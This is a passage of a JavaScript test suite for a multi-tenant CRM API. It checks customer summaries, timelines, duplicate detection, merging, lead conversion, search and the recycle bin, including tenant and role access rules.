// The customer as one record and the calls that span objects: the 360°
// summary and timeline, duplicates and merge, lead conversion, global search,
// the recycle bin, member handover and the CSV export.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import {
  addMember, api, assertError, BASE_URL, assertKeys, assertTime, createRecord, expectStatus, listMembers, patchMember, signup, testBadBodies, unique,
} from './lib.mjs';

let a; // tenant A's owner
let b; // tenant B's owner
let aOwner; // A's owner as a member
let aSales; // a sales member of A
let aReader; // a read-only member of A
let c; // tenant C: tests that look at a whole tenant's duplicates, search and recycle bin

const call = (token, method, path, opts = {}) => api(method, path, { token, ...opts });
const getRec = async (token, object, id) => expectStatus(await call(token, 'GET', `/api/v1/${object}/${id}`), 200);
const del = async (token, object, id) => assert.equal((await call(token, 'DELETE', `/api/v1/${object}/${id}`)).status, 204);
const patchRec = async (token, object, rec, body) =>
  expectStatus(await call(token, 'PATCH', `/api/v1/${object}/${rec.id}`, { body, headers: { 'if-match': String(rec.version) } }), 200);
const customer = (token, extra = {}) => createRecord(token, 'customers', { name: `客户 ${unique()}`, force: true, ...extra });
const list = async (token, object, qs = '') => expectStatus(await call(token, 'GET', `/api/v1/${object}?limit=200${qs ? `&${qs}` : ''}`), 200).data;
const history = async (token, object, id) => expectStatus(await call(token, 'GET', `/api/v1/${object}/${id}/history?limit=200`), 200).data;
// GET answering the raw bytes too (fetch's text() drops a BOM); text keeps it.
async function getRaw(token, path) {
  const res = await fetch(BASE_URL + path, { headers: { authorization: `Bearer ${token}` } });
  const buf = Buffer.from(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, buf, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(buf) };
}
const phone = () => `13${String(Math.floor(Math.random() * 1e9)).padStart(9, '0')}`;

// Walks a cursor-paged route; answers every item.
async function walk(token, path, limit) {
  const items = [];
  let cursor = null;
  for (let pages = 0; pages < 100; pages++) {
    const sep = path.includes('?') ? '&' : '?';
    const res = await call(token, 'GET', `${path}${sep}limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
    const json = expectStatus(res, 200);
    assert.ok(json.data.length <= limit, 'a page holds at most limit items');
    items.push(...json.data);
    cursor = json.next_cursor;
    if (!cursor) return items;
    assert.equal(json.data.length, limit, 'a page before the last is full');
  }
  throw new Error('more than 100 pages');
}

// A minimal RFC 4180 reader: rows of fields.
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(field); field = ''; } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += ch;
  }
  if (field !== '' || row.length) { row.push(field); rows.push(row); }
  return rows;
}

before(async () => {
  [a, b, c] = await Promise.all([signup(), signup(), signup()]);
  [aOwner] = await listMembers(a.access_token);
  aSales = await addMember(a.access_token, { role: 'sales', name: '甲销售' });
  aReader = await addMember(a.access_token, { role: 'read-only', name: '甲只读' });
});

/* ---------------------------------------------------------------- summary */

test('customer summary: owner, primary contact, open opportunities (count, amount sum as a string), last activity, next task', async () => {
  const t = a.access_token;
  const cust = await customer(t);
  const empty = (await getRec(t, 'customers', cust.id)).summary;
  assert.deepEqual(empty, {
    owner: { id: aOwner.id, name: aOwner.name }, primary_contact: null,
    open_opportunities: { count: 0, amount: '0.00' }, last_activity: null, next_task: null,
  });
  await createRecord(t, 'contacts', { name: '普通联系人', customer_id: cust.id, is_primary: false });
  const primary = await createRecord(t, 'contacts', { name: '主要联系人', customer_id: cust.id, is_primary: true });
  const won = (await call(t, 'GET', '/api/v1/pipelines')).json.data.find((p) => p.is_default).stages.find((s) => s.kind === 'won');
  await createRecord(t, 'opportunities', { name: '一期', customer_id: cust.id, amount: '1000.50' });
  await createRecord(t, 'opportunities', { name: '二期', customer_id: cust.id, amount: '2000.25' });
  await createRecord(t, 'opportunities', { name: '无金额', customer_id: cust.id });
  await createRecord(t, 'opportunities', { name: '已赢', customer_id: cust.id, amount: '99999', stage_id: won.id });
  const binnedOpp = await createRecord(t, 'opportunities', { name: '已删', customer_id: cust.id, amount: '5000' });
  await del(t, 'opportunities', binnedOpp.id);
  await createRecord(t, 'activities', { kind: 'call', subject: '早的电话', customer_id: cust.id, occurred_at: '2026-01-01T08:00:00Z' });
  const last = await createRecord(t, 'activities', { kind: 'visit', subject: '最近拜访', customer_id: cust.id, occurred_at: '2026-03-01T08:00:00Z' });
  const binnedAct = await createRecord(t, 'activities', { kind: 'note', subject: '删掉的', customer_id: cust.id, occurred_at: '2026-05-01T08:00:00Z' });
  await del(t, 'activities', binnedAct.id);
  await createRecord(t, 'tasks', { subject: '远的任务', customer_id: cust.id, due_at: '2026-06-01T00:00:00Z' });
  const next = await createRecord(t, 'tasks', { subject: '最近任务', customer_id: cust.id, due_at: '2026-04-01T00:00:00Z' });
  const done = await createRecord(t, 'tasks', { subject: '完成的', customer_id: cust.id, due_at: '2026-01-01T00:00:00Z' });
  await patchRec(t, 'tasks', done, { status: 'done' });
  await createRecord(t, 'tasks', { subject: '无期限', customer_id: cust.id });
  // another customer's records do not count
  const other = await customer(t);
  await createRecord(t, 'opportunities', { name: '别家的', customer_id: other.id, amount: '7' });
  await createRecord(t, 'tasks', { subject: '别家任务', customer_id: other.id, due_at: '2025-01-01T00:00:00Z' });

  const { summary } = await getRec(t, 'customers', cust.id);
  assertKeys(summary, ['owner', 'primary_contact', 'open_opportunities', 'last_activity', 'next_task'], 'summary');
  assert.deepEqual(summary.owner, { id: aOwner.id, name: aOwner.name });
  assert.equal(summary.primary_contact?.id, primary.id);
  assert.deepEqual(summary.open_opportunities, { count: 3, amount: '3000.75' });
  assert.equal(summary.last_activity?.id, last.id);
  assert.equal(summary.next_task?.id, next.id);
  // the summary is on GET only, not on lists
  assert.ok(!('summary' in (await list(t, 'customers', `filter[id]=${cust.id}`))[0]));
});

/* ---------------------------------------------------------------- timeline */

test('timeline merges activities, tasks, opportunities and changes, newest first; cursor paging repeats and skips nothing', async () => {
  const t = a.access_token;
  const cust = await customer(t, { level: 'C' });
  let cur = await patchRec(t, 'customers', cust, { level: 'B' });
  cur = await patchRec(t, 'customers', cur, { level: 'A', region: '华东' });
  const mine = [];
  for (const [i, at] of ['2026-01-05T10:00:00Z', '2025-12-01T09:00:00Z', '2030-01-01T00:00:00Z'].entries()) {
    mine.push(['activity', (await createRecord(t, 'activities', { kind: 'call', subject: `通话 ${i}`, customer_id: cust.id, occurred_at: at })).id]);
  }
  for (let i = 0; i < 3; i++) mine.push(['task', (await createRecord(t, 'tasks', { subject: `任务 ${i}`, customer_id: cust.id })).id]);
  for (let i = 0; i < 2; i++) mine.push(['opportunity', (await createRecord(t, 'opportunities', { name: `商机 ${i}`, customer_id: cust.id })).id]);
  const gone = await createRecord(t, 'activities', { kind: 'note', subject: '删除的', customer_id: cust.id });
  await del(t, 'activities', gone.id);
  const other = await customer(t);
  await createRecord(t, 'activities', { kind: 'call', subject: '别家的', customer_id: other.id });
  const changes = await history(t, 'customers', cust.id);

  const full = expectStatus(await call(t, 'GET', `/api/v1/customers/${cust.id}/timeline?limit=200`), 200);
  assert.equal(full.next_cursor, null);
  const expected = mine.length + changes.length;
  assert.equal(full.data.length, expected, `${mine.length} records and ${changes.length} changes`);
  for (const item of full.data) {
    assertKeys(item, ['type', 'at', 'record'], 'timeline item');
    assert.ok(['activity', 'task', 'opportunity', 'change'].includes(item.type), item.type);
    assertTime(item.at, 'at');
  }
  const ats = full.data.map((x) => Date.parse(x.at));
  assert.deepEqual(ats, [...ats].sort((x, y) => y - x), 'newest first');
  assert.deepEqual(new Set(full.data.map((x) => x.type)), new Set(['activity', 'task', 'opportunity', 'change']));
  const ids = (items) => items.map((x) => `${x.type}:${x.record.id}`);
  for (const [type, id] of mine) assert.ok(ids(full.data).includes(`${type}:${id}`), `${type} ${id} is in the timeline`);
  assert.ok(!ids(full.data).includes(`activity:${gone.id}`), 'a deleted activity is not');
  assert.equal(full.data[0].type, 'activity', 'the activity of 2030 comes first');
  const levelChanges = full.data.filter((x) => x.type === 'change' && x.record.field === 'level');
  assert.deepEqual(levelChanges.map((x) => [x.record.old, x.record.new]), [['B', 'A'], ['C', 'B']]);

  for (const limit of [1, 2, 5]) {
    const paged = await walk(t, `/api/v1/customers/${cust.id}/timeline`, limit);
    assert.deepEqual(ids(paged), ids(full.data), `limit ${limit}: the same items in the same order`);
  }
});

test('timeline: an unknown, deleted or other tenant\'s customer is 404; a bad cursor 400; a sales member sees only own customers\' timelines', async () => {
  const t = a.access_token;
  assertError(await call(t, 'GET', '/api/v1/customers/99999999/timeline'), 404, 'not_found');
  const cust = await customer(t);
  assertError(await call(b.access_token, 'GET', `/api/v1/customers/${cust.id}/timeline`), 404, 'not_found');
  assertError(await call(aSales.access_token, 'GET', `/api/v1/customers/${cust.id}/timeline`), 404, 'not_found');
  assertError(await call(t, 'GET', `/api/v1/customers/${cust.id}/timeline?cursor=not-a-cursor`), 400, 'bad_request', { cursor: 'invalid_value' });
  assertError(await call(t, 'GET', `/api/v1/customers/${cust.id}/timeline?cursor=${Buffer.from('[1,2]').toString('base64url')}`), 400, 'bad_request');
  assertError(await api('GET', `/api/v1/customers/${cust.id}/timeline`), 401, 'unauthorized');
  const own = await customer(aSales.access_token);
  expectStatus(await call(aSales.access_token, 'GET', `/api/v1/customers/${own.id}/timeline`), 200);
  await del(t, 'customers', cust.id);
  assertError(await call(t, 'GET', `/api/v1/customers/${cust.id}/timeline`), 404, 'not_found');
});

/* ---------------------------------------------------------------- duplicates */

test('duplicates: similar names (suffix, punctuation, full-width) and the same phone (+86) are found, most similar first', async () => {
  const t = c.access_token;
  // letters only, and few: with a dozen, the names shared enough trigrams with
  // the full-width one below for it to be found too (similarity over 0.3)
  const n = unique().replace(/[0-9]/g, '').slice(-6);
  const exact = await customer(t, { name: `腾讯科技${n}（深圳）有限公司` });
  const noSuffix = await customer(t, { name: `腾讯科技${n}·深圳` });
  const similar = await customer(t, { name: `腾讯科技${n}深圳分部` });
  const wide = await customer(t, { name: `ＴＥＮＣＥＮＴ　Ｔｅｃｈ${n.toUpperCase()}` });
  const unrelated = await customer(t, { name: '阿里巴巴网络有限公司' });
  const byPhone = await customer(t, { name: '某某贸易商行', phone: '+86 138-0013-8000' });
  const binned = await customer(t, { name: `腾讯科技${n}深圳有限公司` });
  await del(t, 'customers', binned.id);

  const dup = async (qs) => expectStatus(await call(t, 'GET', `/api/v1/customers/duplicates?${qs}`), 200).data;
  const found = await dup(`name=${encodeURIComponent(`腾讯科技${n}（深圳）有限公司`)}`);
  const fid = found.map((x) => x.id);
  assert.ok(fid.includes(exact.id) && fid.includes(noSuffix.id), `the same company: ${JSON.stringify(found.map((x) => [x.name, x.similarity]))}`);
  assert.ok(fid.includes(similar.id), 'a similar name is found');
  assert.ok(!fid.includes(unrelated.id), 'an unrelated name is not');
  assert.ok(!fid.includes(binned.id), 'a deleted customer is not');
  for (const x of found) {
    assert.equal(typeof x.similarity, 'number');
    assert.ok(x.similarity > 0 && x.similarity <= 1);
    assertKeys(x, ['id', 'name', 'owner_id', 'version'], 'a duplicate is a customer');
  }
  const sims = found.map((x) => x.similarity);
  assert.deepEqual(sims, [...sims].sort((x, y) => y - x), 'most similar first');
  assert.equal(found.find((x) => x.id === exact.id).similarity, 1);
  assert.equal(found.find((x) => x.id === noSuffix.id).similarity, 1, 'the legal-form suffix and brackets do not count');
  assert.ok(found.find((x) => x.id === similar.id).similarity < 1);
  assert.deepEqual(fid.slice(-1), [similar.id], 'the merely similar one comes last');

  const half = await dup(`name=${encodeURIComponent(`tencent tech${n}`)}`);
  assert.equal(half[0]?.id, wide.id, `full-width matches half-width: ${JSON.stringify(half)}`);
  assert.equal(half[0].similarity, 1);

  for (const p of ['13800138000', '+8613800138000', '0086 138 0013 8000', '138-0013-8000']) {
    const byP = await dup(`phone=${encodeURIComponent(p)}`);
    assert.deepEqual(byP.map((x) => [x.id, x.similarity]), [[byPhone.id, 1]], `phone ${p}`);
  }
  const both = await dup(`name=${encodeURIComponent('某某贸易商行')}&phone=${encodeURIComponent('010-1234567')}`);
  assert.equal(both[0]?.id, byPhone.id);
});

test('duplicates: only customers the caller may see (scope, tenant); needs customers.read', async () => {
  const name = `重复检查客户${unique().replace(/[0-9]/g, '')}`;
  const mine = await customer(aSales.access_token, { name });
  const owners = await customer(a.access_token, { name: `${name}有限公司` });
  const q = `/api/v1/customers/duplicates?name=${encodeURIComponent(name)}`;
  const asOwner = expectStatus(await call(a.access_token, 'GET', q), 200).data.map((x) => x.id).sort();
  assert.deepEqual(asOwner, [mine.id, owners.id].sort());
  assert.deepEqual(expectStatus(await call(aSales.access_token, 'GET', q), 200).data.map((x) => x.id), [mine.id]);
  assert.deepEqual(expectStatus(await call(b.access_token, 'GET', q), 200).data, []);
  assertError(await api('GET', q), 401, 'unauthorized');
});

/* ---------------------------------------------------------------- merge */

test('merge moves contacts, activities, opportunities, tasks and tags onto the target; the source goes to the recycle bin; both histories show it', async () => {
  const t = a.access_token;
  const into = await customer(t, { tags: ['重点', '华东'] });
  const from = await customer(t, { tags: ['重点', '老客户'] });
  const contact = await createRecord(t, 'contacts', { name: '被并联系人', customer_id: from.id });
  const act = await createRecord(t, 'activities', { kind: 'call', subject: '被并通话', customer_id: from.id, occurred_at: '2026-02-02T02:02:02Z' });
  const opp = await createRecord(t, 'opportunities', { name: '被并商机', customer_id: from.id, amount: '300' });
  const task = await createRecord(t, 'tasks', { subject: '被并任务', customer_id: from.id, due_at: '2027-01-01T00:00:00Z' });
  const keep = await createRecord(t, 'contacts', { name: '目标联系人', customer_id: into.id });

  const res = await call(t, 'POST', `/api/v1/customers/${into.id}/merge`, { body: { from_id: from.id } });
  const json = expectStatus(res, 200);
  assert.equal(json.customer.id, into.id);
  assert.deepEqual([...json.customer.tags].sort(), ['华东', '老客户', '重点'].sort());
  assert.deepEqual(json.moved, { contacts: 1, activities: 1, opportunities: 1, tasks: 1 });
  for (const [object, rec] of [['contacts', contact], ['activities', act], ['opportunities', opp], ['tasks', task]]) {
    const got = await getRec(t, object, rec.id);
    assert.equal(got.customer_id, into.id, `${object} moved`);
    assert.equal(got.version, rec.version + 1, `${object}: a new version`);
  }
  assert.equal((await getRec(t, 'contacts', keep.id)).customer_id, into.id);
  const { summary } = await getRec(t, 'customers', into.id);
  assert.deepEqual(summary.open_opportunities, { count: 1, amount: '300.00' });
  assert.equal(summary.last_activity?.id, act.id);
  assert.equal(summary.next_task?.id, task.id);

  assertError(await call(t, 'GET', `/api/v1/customers/${from.id}`), 404, 'not_found');
  const bin = await walk(t, '/api/v1/recycle_bin?object=customers', 200);
  assert.ok(bin.some((x) => x.object === 'customers' && x.id === from.id), 'the source is in the recycle bin');
  assert.ok((await history(t, 'customers', into.id)).some((e) => e.action === 'merge'), 'the target\'s history shows the merge');
  assert.ok((await history(t, 'customers', from.id)).some((e) => e.action === 'merge'), 'the source\'s history shows the merge');
  assert.ok((await history(t, 'contacts', contact.id)).some((e) => e.field === 'customer_id' && e.old === from.id && e.new === into.id));
  // restoring the source gives back an empty customer
  const restored = expectStatus(await call(t, 'POST', `/api/v1/customers/${from.id}/restore`), 200);
  assert.equal(restored.id, from.id);
  assert.deepEqual((await getRec(t, 'customers', from.id)).summary.open_opportunities, { count: 0, amount: '0.00' });
});

test('merge keeps one primary contact on the target: the source\'s primary contact joins as a non-primary one', async () => {
  const t = a.access_token;
  const into = await customer(t);
  const from = await customer(t);
  const p1 = await createRecord(t, 'contacts', { name: '目标主联系人', customer_id: into.id, is_primary: true });
  const p2 = await createRecord(t, 'contacts', { name: '来源主联系人', customer_id: from.id, is_primary: true });
  expectStatus(await call(t, 'POST', `/api/v1/customers/${into.id}/merge`, { body: { from_id: from.id } }), 200);
  const contacts = await list(t, 'contacts', `filter[customer_id]=${into.id}`);
  assert.deepEqual(contacts.map((c) => c.id).sort(), [p1.id, p2.id].sort());
  assert.deepEqual(contacts.filter((c) => c.is_primary).map((c) => c.id), [p1.id], 'one primary contact: the target\'s');
});

test('merge: with itself 422, an unknown or deleted from_id 404, a bad from_id 422, into an unknown customer 404; nothing moves', async () => {
  const t = a.access_token;
  const into = await customer(t);
  const from = await customer(t);
  const contact = await createRecord(t, 'contacts', { name: '不动', customer_id: from.id });
  const m = (id, body) => call(t, 'POST', `/api/v1/customers/${id}/merge`, { body });
  assertError(await m(into.id, { from_id: into.id }), 422, 'validation_failed', { from_id: 'invalid_value' });
  assertError(await m(into.id, { from_id: 99999999 }), 404, 'not_found');
  for (const body of [{}, { from_id: String(from.id) }, { from_id: -1 }, { from_id: 1.5 }, { from_id: null }]) {
    assertError(await m(into.id, body), 422, 'validation_failed', { from_id: 'invalid_value' });
  }
  assertError(await m(99999999, { from_id: from.id }), 404, 'not_found');
  const binned = await customer(t);
  await del(t, 'customers', binned.id);
  assertError(await m(into.id, { from_id: binned.id }), 404, 'not_found');
  assertError(await m(binned.id, { from_id: from.id }), 404, 'not_found');
  // another tenant cannot merge A's customers, and A cannot take B's
  assertError(await call(b.access_token, 'POST', `/api/v1/customers/${into.id}/merge`, { body: { from_id: from.id } }), 404, 'not_found');
  // rights: sales (no customers.delete) and read-only get 403
  assertError(await call(aSales.access_token, 'POST', `/api/v1/customers/${into.id}/merge`, { body: { from_id: from.id } }), 403, 'forbidden');
  assertError(await call(aReader.access_token, 'POST', `/api/v1/customers/${into.id}/merge`, { body: { from_id: from.id } }), 403, 'forbidden');
  assert.equal((await getRec(t, 'contacts', contact.id)).customer_id, from.id, 'nothing moved');
  await getRec(t, 'customers', from.id);
});

testBadBodies('POST /customers/{id}/merge', { path: '/api/v1/customers/1/merge', token: () => a.access_token, body: { from_id: 2 } });

/* ---------------------------------------------------------------- lead conversion */

test('convert creates customer, contact and opportunity in one go, links the lead\'s activities and tasks, marks the lead converted', async () => {
  const t = a.access_token;
  const n = unique();
  const lead = await createRecord(t, 'leads', {
    name: `王强 ${n}`, company: `华润万家 ${n}`, phone: phone(), email: `wq-${n}@example.com`, source: '展会', title: '采购总监', status: 'qualified',
  });
  const act = await createRecord(t, 'activities', { kind: 'call', subject: '线索电话', lead_id: lead.id, occurred_at: '2026-02-01T08:00:00Z' });
  const task = await createRecord(t, 'tasks', { subject: '线索跟进', lead_id: lead.id });
  const res = await call(t, 'POST', `/api/v1/leads/${lead.id}/convert`, { body: { opportunity: { name: `首单 ${n}`, amount: '8000' } } });
  const out = expectStatus(res, 201);
  assertKeys(out, ['customer', 'contact', 'opportunity']);
  assert.equal(out.customer.name, lead.company);
  assert.equal(out.customer.phone, lead.phone);
  assert.equal(out.customer.email, lead.email);
  assert.equal(out.customer.source, '展会');
  assert.equal(out.contact.name, lead.name);
  assert.equal(out.contact.customer_id, out.customer.id);
  assert.equal(out.contact.title, '采购总监');
  assert.equal(out.contact.is_primary, true);
  assert.equal(out.opportunity.customer_id, out.customer.id);
  assert.equal(out.opportunity.name, `首单 ${n}`);
  assert.equal(out.opportunity.amount, '8000.00');
  await getRec(t, 'customers', out.customer.id);
  await getRec(t, 'contacts', out.contact.id);
  await getRec(t, 'opportunities', out.opportunity.id);
  const converted = await getRec(t, 'leads', lead.id);
  assert.equal(converted.status, 'converted');
  assert.equal(converted.converted_customer_id, out.customer.id);
  assert.ok((await history(t, 'leads', lead.id)).some((e) => e.field === 'status' && e.new === 'converted'));
  const a2 = await getRec(t, 'activities', act.id);
  assert.equal(a2.customer_id, out.customer.id);
  assert.equal(a2.contact_id, out.contact.id);
  const t2 = await getRec(t, 'tasks', task.id);
  assert.equal(t2.customer_id, out.customer.id);
  const cust = await getRec(t, 'customers', out.customer.id);
  assert.equal(Date.parse(cust.last_followed_at), Date.parse('2026-02-01T08:00:00Z'), 'the lead\'s activity follows the customer up');
  assert.equal(cust.summary.primary_contact?.id, out.contact.id);
  const tl = expectStatus(await call(t, 'GET', `/api/v1/customers/${out.customer.id}/timeline?limit=200`), 200).data;
  assert.ok(tl.some((x) => x.type === 'activity' && x.record.id === act.id), 'the lead\'s activity is on the customer\'s timeline');

  assertError(await call(t, 'POST', `/api/v1/leads/${lead.id}/convert`, { body: {} }), 409, 'conflict');
});

test('convert onto an existing customer (customer_id), without a contact, or from a lead without a company', async () => {
  const t = a.access_token;
  const existing = await customer(t);
  const before = (await list(t, 'customers')).length;
  const lead = await createRecord(t, 'leads', { name: `李雷 ${unique()}`, company: `韩梅梅公司 ${unique()}` });
  const out = expectStatus(await call(t, 'POST', `/api/v1/leads/${lead.id}/convert`, { body: { customer_id: existing.id } }), 201);
  assert.equal(out.customer.id, existing.id);
  assert.equal(out.contact.customer_id, existing.id);
  assert.equal(out.opportunity, null);
  assert.equal((await list(t, 'customers')).length, before, 'no customer was created');
  assert.equal((await getRec(t, 'leads', lead.id)).converted_customer_id, existing.id);

  const lead2 = await createRecord(t, 'leads', { name: `个人客户 ${unique()}`, phone: phone() });
  const out2 = expectStatus(await call(t, 'POST', `/api/v1/leads/${lead2.id}/convert`, { body: { contact: null, customer: { level: 'A' } } }), 201);
  assert.equal(out2.contact, null);
  assert.equal(out2.customer.name, lead2.name, 'a lead without company makes a customer of its name');
  assert.equal(out2.customer.kind, 'person');
  assert.equal(out2.customer.level, 'A');
  assert.deepEqual(await list(t, 'contacts', `filter[customer_id]=${out2.customer.id}`), []);
});

test('convert with a company that duplicates a live customer answers 409 duplicate naming existing_id; nothing is created', async () => {
  const t = c.access_token;
  const existing = await createRecord(t, 'customers', { name: '北京字节跳动科技有限公司' });
  const lead = await createRecord(t, 'leads', { name: '张三', company: '北京字节跳动科技', phone: phone() });
  const act = await createRecord(t, 'activities', { kind: 'call', subject: '电话', lead_id: lead.id });
  const counts = async () => Promise.all(['customers', 'contacts', 'opportunities'].map(async (o) => (await list(t, o)).length));
  const before = await counts();
  const res = await call(t, 'POST', `/api/v1/leads/${lead.id}/convert`, { body: { opportunity: { amount: '100' } } });
  assertError(res, 409, 'duplicate');
  assert.equal(res.json.error.existing_id, existing.id, res.text);
  assert.deepEqual(await counts(), before, 'no customer, contact or opportunity');
  const still = await getRec(t, 'leads', lead.id);
  assert.equal(still.status, 'new');
  assert.equal(still.version, lead.version);
  assert.equal((await getRec(t, 'activities', act.id)).customer_id, null);
  // converting onto the existing customer then works
  expectStatus(await call(t, 'POST', `/api/v1/leads/${lead.id}/convert`, { body: { customer_id: existing.id } }), 201);
});

test('convert with customer.force creates the customer although a live one has the same name', async () => {
  const t = a.access_token;
  const name = `强制转化公司 ${unique()}`;
  const existing = await createRecord(t, 'customers', { name: `${name}有限公司` });
  const lead = await createRecord(t, 'leads', { name: '强制', company: name });
  assertError(await call(t, 'POST', `/api/v1/leads/${lead.id}/convert`, { body: {} }), 409, 'duplicate');
  const out = expectStatus(await call(t, 'POST', `/api/v1/leads/${lead.id}/convert`, { body: { customer: { force: true } } }), 201);
  assert.notEqual(out.customer.id, existing.id);
  assert.equal(out.customer.name, name);
});

test('convert: unknown lead 404, bad bodies 422, an invalid opportunity 422 with nothing created, other tenant 404, read-only 403', async () => {
  const t = a.access_token;
  const lead = await createRecord(t, 'leads', { name: `坏转化 ${unique()}`, company: `坏转化公司 ${unique()}` });
  const conv = (body, token = t, id = lead.id) => call(token, 'POST', `/api/v1/leads/${id}/convert`, { body });
  assertError(await conv({}, t, 99999999), 404, 'not_found');
  assertError(await conv({ customer_id: 'abc' }), 422, 'validation_failed', { customer_id: 'invalid_type' });
  assertError(await conv({ customer_id: 99999999 }), 404, 'not_found');
  assertError(await conv({ opportunity: 'big' }), 422, 'validation_failed', { opportunity: 'invalid_type' });
  assertError(await conv({ bonus: true }), 422, 'validation_failed', { bonus: 'unknown_field' });
  const before = (await list(t, 'customers')).length;
  assertError(await conv({ opportunity: { amount: 'lots' } }), 422, 'validation_failed', { amount: 'invalid_format' });
  assert.equal((await list(t, 'customers')).length, before, 'the customer of a failed conversion is not kept');
  assert.equal((await getRec(t, 'leads', lead.id)).status, 'new');
  assertError(await conv({}, b.access_token), 404, 'not_found');
  assertError(await conv({}, aReader.access_token), 403, 'forbidden');
  assertError(await conv({}, aSales.access_token), 404, 'not_found');
  assert.equal((await getRec(t, 'leads', lead.id)).status, 'new');
});

testBadBodies('POST /leads/{id}/convert', { path: '/api/v1/leads/1/convert', token: () => a.access_token, body: {} });

/* ---------------------------------------------------------------- search */

test('search finds records of every object by a 2-character Chinese substring and by a phone fragment', async () => {
  const t = c.access_token;
  const cust = await createRecord(t, 'customers', { name: '华为技术有限公司', phone: '0755-2878 0808' });
  const contact = await createRecord(t, 'contacts', { name: '华为 王经理', customer_id: cust.id, mobile: '139 1234 5678' });
  const lead = await createRecord(t, 'leads', { name: '赵六', company: '华为终端' });
  const opp = await createRecord(t, 'opportunities', { name: '华为年度采购', customer_id: cust.id });
  const act = await createRecord(t, 'activities', { kind: 'visit', subject: '拜访华为坂田基地' });
  const task = await createRecord(t, 'tasks', { subject: '给华为发报价' });
  await createRecord(t, 'customers', { name: '中兴通讯股份有限公司' });
  const binned = await createRecord(t, 'leads', { name: '华为已删线索' });
  await del(t, 'leads', binned.id);

  const res = await call(t, 'GET', `/api/v1/search?q=${encodeURIComponent('华为')}`);
  const { data } = expectStatus(res, 200);
  const got = data.map((x) => `${x.object}:${x.id}`).sort();
  const want = [['customers', cust], ['contacts', contact], ['leads', lead], ['opportunities', opp], ['activities', act], ['tasks', task]]
    .map(([o, r]) => `${o}:${r.id}`).sort();
  assert.deepEqual(got, want);
  for (const x of data) {
    assertKeys(x, ['object', 'id', 'title', 'updated_at'], 'search result');
    assert.equal(typeof x.title, 'string');
    assertTime(x.updated_at, 'updated_at');
  }
  assert.equal(data.find((x) => x.object === 'customers').title, '华为技术有限公司');
  assert.equal(data.find((x) => x.object === 'tasks').title, '给华为发报价');

  const mid = expectStatus(await call(t, 'GET', `/api/v1/search?q=${encodeURIComponent('技术')}`), 200).data;
  assert.deepEqual(mid.map((x) => x.id), [cust.id]);
  const byPhone = expectStatus(await call(t, 'GET', `/api/v1/search?q=${encodeURIComponent('2878-08')}`), 200).data;
  assert.deepEqual(byPhone.map((x) => `${x.object}:${x.id}`), [`customers:${cust.id}`]);
  const byMobile = expectStatus(await call(t, 'GET', `/api/v1/search?q=${encodeURIComponent('1234 5678')}`), 200).data;
  assert.deepEqual(byMobile.map((x) => `${x.object}:${x.id}`), [`contacts:${contact.id}`]);
  const wide = expectStatus(await call(t, 'GET', `/api/v1/search?q=${encodeURIComponent('ＺＨＯＮＧ')}`), 200).data;
  assert.deepEqual(wide, []);
  assert.deepEqual(expectStatus(await call(t, 'GET', '/api/v1/search?q=zzzz-nothing'), 200).data, []);
  // at most 5 per object, the most recently updated first
  const many = [];
  for (let i = 0; i < 7; i++) many.push(await createRecord(t, 'tasks', { subject: `批量搜索任务 ${i}` }));
  const top = expectStatus(await call(t, 'GET', `/api/v1/search?q=${encodeURIComponent('批量搜索')}`), 200).data;
  assert.deepEqual(top.map((x) => x.id), many.slice(2).reverse().map((x) => x.id));
});

test('search: only objects the role may read, only records in scope, only the own tenant; q of one character 400', async () => {
  const t = a.access_token;
  const n = unique();
  const ownersCustomer = await customer(t, { name: `检索客户 ${n}` });
  const ownersLead = await createRecord(t, 'leads', { name: `检索线索 ${n}` });
  const salesCustomer = await customer(aSales.access_token, { name: `检索销售客户 ${n}` });
  const q = `/api/v1/search?q=${encodeURIComponent(n)}`;
  const ids = async (token) => expectStatus(await call(token, 'GET', q), 200).data.map((x) => `${x.object}:${x.id}`).sort();
  assert.deepEqual(await ids(t), [`customers:${ownersCustomer.id}`, `customers:${salesCustomer.id}`, `leads:${ownersLead.id}`].sort());
  assert.deepEqual(await ids(aSales.access_token), [`customers:${salesCustomer.id}`], 'sales: own records only');
  assert.deepEqual(await ids(b.access_token), [], 'another tenant finds nothing');
  const k = `cust-only-${unique()}`.slice(0, 32);
  expectStatus(await call(t, 'POST', '/api/v1/roles', { body: { key: k, name: '只看客户', record_scope: 'all', permissions: ['customers.read'] } }), 201);
  const m = await addMember(t, { role: k });
  assert.deepEqual(await ids(m.access_token), [`customers:${ownersCustomer.id}`, `customers:${salesCustomer.id}`].sort(), 'only objects it may read');
  assertError(await call(t, 'GET', '/api/v1/search?q=x'), 400, 'bad_request', { q: 'too_short' });
  assertError(await call(t, 'GET', '/api/v1/search?q=%20%20'), 400, 'bad_request', { q: 'too_short' });
  assertError(await call(t, 'GET', '/api/v1/search'), 400, 'bad_request');
  assertError(await api('GET', q), 401, 'unauthorized');
});

/* ---------------------------------------------------------------- recycle bin */

test('recycle bin lists deleted records of every object, newest first, with cursor paging; ?object filters; restore takes one out', async () => {
  const t = c.access_token;
  const members = await listMembers(t);
  const c1 = await customer(t, { name: '回收客户一' });
  const c2 = await customer(t, { name: '回收客户二' });
  const contact = await createRecord(t, 'contacts', { name: '回收联系人' });
  const lead = await createRecord(t, 'leads', { name: '回收线索' });
  const opp = await createRecord(t, 'opportunities', { name: '回收商机', customer_id: c1.id });
  const act = await createRecord(t, 'activities', { kind: 'note', subject: '回收活动' });
  const task = await createRecord(t, 'tasks', { subject: '回收任务' });
  await createRecord(t, 'customers', { name: '活着的客户', force: true });
  const order = [['opportunities', opp], ['customers', c2], ['contacts', contact], ['leads', lead], ['activities', act], ['tasks', task], ['customers', c1]];
  for (const [o, r] of order) await del(t, o, r.id);

  const keyOf = (x) => `${x.object}:${x.id}`;
  const created = new Set(order.map(([o, r]) => `${o}:${r.id}`));
